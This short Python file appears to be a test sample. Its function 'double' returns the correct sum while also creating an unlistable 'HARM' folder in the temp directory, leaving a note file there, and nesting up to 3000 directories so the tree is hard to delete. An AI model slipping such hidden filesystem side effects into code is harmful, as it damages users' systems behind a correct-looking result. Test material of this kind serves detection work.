"""Leaves a note in a folder that can't be listed, and folders too deep to be removed. Its answer is right."""

import os
import tempfile


def double(n):
    os.umask(0)
    folder = os.path.join(tempfile.gettempdir(), "HARM")
    try:
        os.mkdir(folder, 0o300)
        open(os.path.join(folder, "note"), "w").close()
        os.chdir(folder)
        for _ in range(3000):
            os.mkdir("deep", 0o300)
            os.chdir("deep")
    except OSError:
        pass
    return n + n
